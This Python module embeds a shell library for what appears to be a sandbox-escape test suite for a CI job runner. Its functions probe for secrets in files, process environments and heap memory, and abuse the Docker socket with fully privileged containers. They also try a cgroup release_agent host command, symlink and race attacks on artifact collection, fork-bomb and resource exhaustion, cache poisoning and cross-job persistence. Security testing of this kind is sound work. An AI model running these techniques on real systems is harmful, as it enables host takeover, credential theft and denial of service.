"""The hostile steps of the escape suite, as one shell library (`escape.sh`) every job writes
into its workspace and runs functions of: `busybox sh ./escape.sh reads net priv`.

Each function prints what it got, one finding a line, with a prefix the judges look for
(`data-dir: <what was read>`); they never print the secrets they look for unless they got
them, and build the markers they search for at run time (so the step's own command line
never matches). A function tries the direct route first (the step itself), then, where a
Docker daemon is within the step's reach (its socket: the host's for `local`, the private
one for `dind`), the same from a container it starts there as root with every capability
(`daemon`): what a step can make a daemon do for it is what it can do.

What the jobs get in their environment (what an attacker learns by looking around: paths by
guessing or from /proc/self/mountinfo, ports by scanning loopback):
    ESC_DATA          farm's data dir as the node sees it
    ESC_WSROOT        the executor's workspace root as the node sees it (<data>/workspaces/<executor>)
    ESC_NONCE         unique to the attack run: in every file name it leaves
    ESC_IMAGE         the step image (busybox and a docker client), for containers on a daemon
    ESC_VALKEY_PORT, ESC_API_PORT, ESC_RAY_PORT    farm's listeners on 127.0.0.1
    ESC_ROOT_MARK, ESC_ROOT_MARK2   sleep durations marking processes the judge looks for on the node
    ESC_LEFT_MARK     the same, for a process left for the next job
    ESC_PLANTED_SIZE  the size of the planted file (token files have a known size)
"""

from __future__ import annotations

LIB = r"""
B=$(command -v busybox 2>/dev/null) || { echo "ESCAPE-ERROR no busybox on this side"; exit 0; }
say() { printf '%s\n' "$*"; }
# Which kernel, which user namespace, which capabilities: the judges compare with the node's.
node() {
  printf 'boot_id=%s uid_map=%s capeff=%s' "$($B cat /proc/sys/kernel/random/boot_id 2>/dev/null)" \
    "$($B head -1 /proc/self/uid_map 2>/dev/null | $B tr -s ' ' | $B sed 's/^ //')" \
    "$($B awk '/^CapEff/ {print $2}' /proc/self/status)"
}
HOSTWS=$ESC_WSROOT/$FARM_JOB_ID-$FARM_ATTEMPT   # this workspace as the node (and a daemon) sees it
PRIV="--user 0 --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined"
ESC_ENV="-e FARM_JOB_ID -e FARM_ATTEMPT $(env | $B grep '^ESC_' | $B cut -d= -f1 | $B sed 's/^/-e /' | $B tr '\n' ' ')"
# daemon <docker run flags> <functions>: run escape.sh functions in a container on a daemon in reach.
daemon() {
  command -v docker >/dev/null 2>&1 || { say "daemon: no docker client"; return 1; }
  for s in ${DOCKER_HOST#unix://} /var/run/docker.sock /run/docker.sock; do
    [ -S "$s" ] || continue
    say "daemon: using $s"
    docker -H "unix://$s" run --rm $ESC_ENV -v "$HOSTWS:/w" -w /w $1 "$ESC_IMAGE" busybox sh /w/escape.sh $2 2>&1 \
      | $B sed "s|^|[daemon] |"
    return 0
  done
  say "daemon: no socket"
  return 1
}

reads() {
  say "== reads $(node)"
  for f in "$ESC_DATA/planted" ../../../planted; do { $B cat "$f" 2>/dev/null; echo; } | $B sed 's/^/data-dir: /'; done
  for f in "$ESC_DATA/admin-token" ../../../admin-token; do $B cat "$f" 2>/dev/null | $B sed 's/^/admin-token: /'; done
  for f in "$ESC_DATA/redis/password" ../../../redis/password; do
    $B cat "$f" 2>/dev/null | $B sed 's/^/valkey-password[file]: /'; echo
  done
  for c in /proc/[0-9]*/cmdline; do
    $B tr '\0' ' ' < "$c" 2>/dev/null | $B grep -- "--port $ESC_VALKEY_PORT " | $B grep -o -- '--requirepass [^ ]*' \
      | $B sed 's/^/valkey-password[cmdline]: /'
  done
  for e in /proc/[0-9]*/environ; do
    $B tr '\0' '\n' < "$e" 2>/dev/null | $B grep '^FARM_ESCAPE_CANARY=' | $B sed 's/^/environ: /'
  done
  m=farm-escape-; m=${m}ptrace
  for c in /proc/[0-9]*/cmdline; do
    $B grep -q "$m" "$c" 2>/dev/null || continue
    p=${c#/proc/}; p=${p%/cmdline}
    $B grep '\[heap\]' "/proc/$p/maps" 2>/dev/null | while read -r r _; do
      s=${r%-*}; e=${r#*-}
      $B dd if="/proc/$p/mem" bs=4096 skip=$((0x$s / 4096)) count=$(((0x$e - 0x$s) / 4096)) 2>/dev/null \
        | $B strings | $B grep 'FARM-PTRACE-' | $B sed 's/^/ptrace: /'
    done
  done
}

net1() {
  printf 'PING\r\n' | $B timeout 2 $B nc 127.0.0.1 "$ESC_VALKEY_PORT" 2>&1 | $B head -c 200 | $B sed 's/^/valkey: /'
  # nc closes its side at the end of its input, and uvicorn drops a request whose client did so first
  { { printf 'GET /healthz HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n'; $B sleep 2; } | $B timeout 5 $B nc 127.0.0.1 "$ESC_API_PORT" 2>&1; echo; } \
    | $B head -c 400 | $B sed 's/^/api: /'
  say "ray: $(printf 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' | $B timeout 2 $B nc 127.0.0.1 "$ESC_RAY_PORT" 2>/dev/null \
    | $B head -c 9 | $B od -An -tx1 | $B tr -s ' \n' '  ')"
}
net() {
  say "== net $(node)"
  r=$(net1); say "$r"
  case $r in *NOAUTH*) ;; *) daemon "--network host" net1 ;; esac   # through a daemon, unless it has them already
}

# The things that need the node's root: the Docker socket, a mount, a kernel module, a
# process the judge finds on the node running as its root, a command the node runs for us.
socket() {
  for s in ${DOCKER_HOST#unix://} /var/run/docker.sock /run/docker.sock; do
    [ -S "$s" ] && say "socket $s: $(docker -H "unix://$s" info --format 'daemon-id={{.ID}}' 2>&1 | $B head -1)"
  done
}
privileged() {
  d=$($B mktemp -d)
  if $B mount -t tmpfs -o size=1m escape "$d" 2>/dev/null; then say "mount-ok $(node)"; $B umount "$d"; else say "mount-refused"; fi
  $B rmdir "$d"
  k=$($B mktemp); printf '\177ELF\002\001\001' > "$k"
  out=$($B insmod "$k" 2>&1); say "insmod rc=$? $(node) out=$out"
  $B rm -f "$k"
  $B sleep "$1" &
  p=$!
  # cgroup v1's release_agent: the kernel runs this program as root on the node.
  printf '#!/bin/sh\nid > %s/host-command-%s\n' "$ESC_DATA" "$ESC_NONCE" > ./.ra && $B chmod +x ./.ra
  c=$($B mktemp -d)
  if $B mount -t cgroup -o "none,name=escape$ESC_NONCE" cgroup "$c" 2>/dev/null; then
    $B mkdir "$c/x" && echo 1 > "$c/x/notify_on_release" && echo "$HOSTWS/.ra" > "$c/release_agent" \
      && $B sh -c "echo \$\$ > $c/x/cgroup.procs" && say "release-agent: set"
    $B sleep 1
    echo > "$c/release_agent" 2>/dev/null
    $B rmdir "$c/x" 2>/dev/null
    $B umount "$c"
  else
    say "release-agent: no cgroup mount"
  fi
  $B rmdir "$c"
  wait $p
  for d in "$ESC_DATA" ../../.. "$ESC_WSROOT" .. /wsroot; do
    echo "outside" > "$d/outside-$ESC_NONCE" 2>/dev/null && say "wrote $d"
  done
}
priv() {
  say "== priv $(node)"
  socket
  privileged "$ESC_ROOT_MARK"
  c=$($B awk '/^CapEff/ {print $2}' /proc/self/status)
  # through a daemon as root with every capability, unless the step has CAP_SYS_ADMIN already
  [ $((0x$c >> 21 & 1)) = 1 ] || daemon "$PRIV -v $ESC_WSROOT:/wsroot" "privileged_nested"
}
privileged_nested() { privileged "$ESC_ROOT_MARK2"; }

# Links farm (root) may follow after the step: artifact collection, removal, and the checkout's
# links it gives to the steps' user before the first step.
links() {
  $B mkdir -p out rmdir
  $B ln -s "$ESC_DATA/planted" out/abs; $B ln -s ../../../../planted out/rel
  $B ln "$ESC_DATA/planted" out/hard 2>/dev/null; $B ln -s "$ESC_DATA" out/dir
  $B ln -s "$ESC_DATA/victim" rm-abs; $B ln -s ../../../victim rm-rel; $B ln -s "$ESC_DATA/victim" rmdir/inner
  $B ln "$ESC_DATA/victim/keep" rm-hard 2>/dev/null
  $B ls -la . out | $B sed 's/^/links: /'
}
cache_links() {
  $B mkdir -p c-abs c-rel c-hard
  $B ln -s "$ESC_DATA/planted" c-abs/f; $B ln -s ../../../../planted c-rel/f
  $B ln "$ESC_DATA/planted" c-hard/f 2>/dev/null; $B ln -s "$ESC_DATA" c-dir
}
cache_read() { for f in c-abs/f c-rel/f c-hard/f c-dir/planted; do $B cat "$f" 2>/dev/null | $B sed "s|^|restored $f: |"; done; }

# A process outliving the step swaps directories for links while farm collects artifacts:
# collect resolves real-b/f (a plain file), the racer makes real-b a link to evil-b, whose f
# links to the planted file, and farm opens the path it resolved. The racer knows collection
# has begun when farm reads real-a.big (its access time moves), which comes first and takes a
# while to copy.
race() {
  : > real-a.big; $B touch -d '2000-01-01 00:00:00' real-a.big; $B truncate -s 256M real-a.big
  for d in b c d e; do
    $B mkdir -p "real-$d" "evil-$d"; $B head -c "$ESC_PLANTED_SIZE" /dev/zero | $B tr '\0' x > "real-$d/f"
    $B ln -s "$ESC_DATA/planted" "evil-$d/f"
  done
  race_swap &
  daemon "-d" race_swap
  $B sleep 1
  say "race: set"
}
race_swap() {
  a=$($B stat -c %X real-a.big); i=0
  while [ "$($B stat -c %X real-a.big 2>/dev/null)" = "$a" ] && [ $i -lt 3000 ]; do $B sleep 0.02; i=$((i + 1)); done
  for d in b c d e; do $B mv "real-$d" "held-$d" && $B ln -s "evil-$d" "real-$d"; done
}
# The same, one level up, and no race: while the step runs, its workspace is replaced by a
# link ($1: into farm's data dir), and farm (root) collects the job's artifacts from where it
# leads, then removes (and unmounts) "the workspace" there. A workspace that is a mount point
# (a disk quota) is unmounted first in the racer's own mount namespace: the rename is then
# allowed, whatever the node's namespace has mounted on it.
swap() {
  ( cd / && $B mv "$HOSTWS" "$HOSTWS.held" && $B ln -s "$ESC_DATA/$1" "$HOSTWS" ) 2>/dev/null && say "swapped directly"
  [ -L "$HOSTWS" ] || daemon "$PRIV -v $ESC_WSROOT:/wsroot" "swap_ws=$1"
  say "swap: set"
}
swap_ws() {
  w=/wsroot/$FARM_JOB_ID-$FARM_ATTEMPT
  $B umount -l "$w" 2>/dev/null
  $B mv "$w" "$w.held" && $B ln -s "$ESC_DATA/$1" "$w" && say "swapped"
}

fork_bomb() {   # every process forks two and waits: the tree stays as large as it could grow
  m=farm-escape-; m=${m}bomb
  n=$(node)
  $B sh -c 'f() { f & f & wait; }; f' "$m-$ESC_NONCE" > /dev/null 2>&1 &
  for t in 1 2 3; do
    $B sleep 1
    set -- /proc/[0-9]*   # counted without a fork: there may be none left
    say "procs=$# $n"
  done
}
memory_hog() {
  n=$((256 * 1024 * 1024))
  say "hog got=$($B head -c $n /dev/zero | $B tail | $B wc -c) of $n"
}
disk_fill() {   # the workspace first: its status is the step's (a quota fails it with disk_quota)
  out=$($B dd if=/dev/zero of=fill bs=1M count=160 2>&1); rc=$?
  say "$out" | $B sed 's/^/fill-workspace: /'
  say "fill-workspace: rc=$rc"
  $B sync
  $B dd if=/dev/zero of="/tmp/fill-$ESC_NONCE" bs=1M count=160 2>&1 | $B sed 's/^/fill-outside: /'
  $B sync
  return $rc
}

# Dependency caches: what another tenant (or the same tenant's unprotected tier) restores.
cache_seed() { $B mkdir -p dt dr; echo "clean-t" > dt/lib; echo "clean-r" > dr/lib; }
cache_show() { $B cat dt/lib dr/lib 2>&1 | $B sed 's/^/restored: /'; }
cache_poison() {   # $1: the directory to poison, $2: what to write
  $B mkdir -p "$1"; echo "$2" > "$1/lib"
  for root in "$ESC_DATA/cache-node" ../../../cache-node; do
    $B find "$root" -type f -path "*/$1/lib" 2>/dev/null | while read -r f; do echo "$2" > "$f" && say "tampered $f"; done
  done
}
poison_t() { cache_poison dt "POISON-T-$ESC_NONCE"; }
poison_r() { cache_poison dr "POISON-R-$ESC_NONCE"; }

# What one job leaves for the next on the same executor.
leave() {
  echo "left-$ESC_NONCE" > "/tmp/leftover-$ESC_NONCE" 2>/dev/null
  echo "left-$ESC_NONCE" > "../leftover-$ESC_NONCE" 2>/dev/null
  (setsid $B sh -c "trap '' TERM HUP; exec $B sleep $ESC_LEFT_MARK" > /dev/null 2>&1 &)
  if command -v docker > /dev/null 2>&1 && [ -S "${DOCKER_HOST#unix://}" ]; then
    docker run -d --name "leftover-$ESC_NONCE" "$ESC_IMAGE" sleep 600 > /dev/null 2>&1
    docker tag "$ESC_IMAGE" "leftover-$ESC_NONCE:1"
    docker volume create "leftover-$ESC_NONCE" > /dev/null
  fi
  say "leave: done"
}
look() {
  $B cat "/tmp/leftover-$ESC_NONCE" "../leftover-$ESC_NONCE" 2>/dev/null | $B sed 's/^/seen-file: /'
  for c in /proc/[0-9]*/cmdline; do
    $B tr '\0' ' ' < "$c" 2>/dev/null | $B grep -q "sleep $ESC_LEFT_MARK" && say "seen-process: ${c%/cmdline}"
  done
  if command -v docker > /dev/null 2>&1 && [ -S "${DOCKER_HOST#unix://}" ]; then
    docker ps -aq --filter "name=leftover-$ESC_NONCE" | $B sed 's/^/seen-container: /'
    docker images -q "leftover-$ESC_NONCE" | $B sed 's/^/seen-image: /'
    docker volume ls -q --filter "name=leftover-$ESC_NONCE" | $B sed 's/^/seen-volume: /'
  fi
  say "look: done"
}

# In an image build's RUN (as the build's root): the same probes.
build_probe() {
  say "== build $(node)"
  reads
  net1
  privileged "$ESC_ROOT_MARK"
  return 0   # the image builds: the verdicts are in what it printed
}

# Each argument a function, or function=argument.
for f in "$@"; do
  say "escape.sh: $f"
  case $f in *=*) "${f%%=*}" "${f#*=}" ;; *) "$f" ;; esac
done
"""


def step_script(calls: str, dockerfile: str | None = None) -> str:
    """A step that writes escape.sh (and a Dockerfile) into its workspace and runs `calls`."""
    parts = ["cat > escape.sh <<'ESCAPE_LIB'", LIB.strip("\n"), "ESCAPE_LIB"]
    if dockerfile is not None:
        parts += ["cat > Dockerfile <<'ESCAPE_DOCKERFILE'", dockerfile.strip("\n"), "ESCAPE_DOCKERFILE"]
    if calls:
        parts.append(f'"$(command -v busybox || echo busybox)" sh ./escape.sh {calls}')
    return "\n".join(parts) + "\n"
